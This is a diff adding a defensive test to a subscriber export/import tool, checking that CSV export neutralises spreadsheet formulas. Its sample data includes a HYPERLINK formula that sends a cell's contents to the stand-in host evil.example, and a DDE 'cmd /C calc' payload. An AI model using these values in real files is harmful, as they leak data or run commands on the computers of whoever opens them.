@@ -149,3 +149,45 @@ def test_export_round_trips(run, project, tmp_path: Path) -> None:
         ledger.remove_subscriber("a@exemple.fr")
     result = run("subscribers", "import", str(path))
     assert "1 added, 1 already present, 0 invalid" in result.output
+
+
+# Values a spreadsheet would run as formulas (OWASP CSV injection), as the public
+# subscribe form or an operator could store them.
+_FORMULA_NAMES = [
+    '=HYPERLINK("https://evil.example/?"&A2,"Cliquez")',
+    "+33 6 12 34 56 78",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=déjà cité",
+    "''+deux",
+    "Anne-Marie = Dupont",  # harmless: only the first character matters
+]
+
+
+def test_export_neutralizes_formulas_and_import_restores_them(run, project, tmp_path) -> None:
+    with Ledger(project.config().database) as ledger:
+        for number, name in enumerate(_FORMULA_NAMES):
+            ledger.add_subscriber(f"p{number}@exemple.fr", name=name, status="active")
+        ledger.add_subscriber("=cmd@exemple.fr", name="\tTab", status="active")
+    exported = run("subscribers", "export")
+    assert exported.exit_code == 0, exported.output
+    cells = [cell for row in csv.reader(io.StringIO(exported.stdout)) for cell in row]
+    dangerous = [cell for cell in cells if cell[:1] in "=+-@\t\r"]
+    assert dangerous == []  # no cell a spreadsheet would evaluate
+    assert "'=HYPERLINK(\"https://evil.example/?\"&A2,\"Cliquez\")" in cells
+    assert "''=déjà cité" in cells  # already quoted: one more quote, so import is exact
+    assert "Anne-Marie = Dupont" in cells  # untouched
+
+    # Importing the export into an empty ledger gives back the original values.
+    path = tmp_path / "export.csv"
+    path.write_text(exported.stdout, encoding="utf-8")
+    project.write_config(storage={"database": "../var/other.db"}, channels=[])
+    result = run("subscribers", "import", str(path))
+    assert result.exit_code == 0, result.output
+    assert "8 added, 0 already present, 0 invalid" in result.output
+    with Ledger(project.config().database) as ledger:
+        names = {s.email: s.name for s in ledger.iter_subscribers(None)}
+    assert names == {
+        **{f"p{number}@exemple.fr": name for number, name in enumerate(_FORMULA_NAMES)},
+        "=cmd@exemple.fr": "Tab",  # import strips surrounding white space, as before
+    }
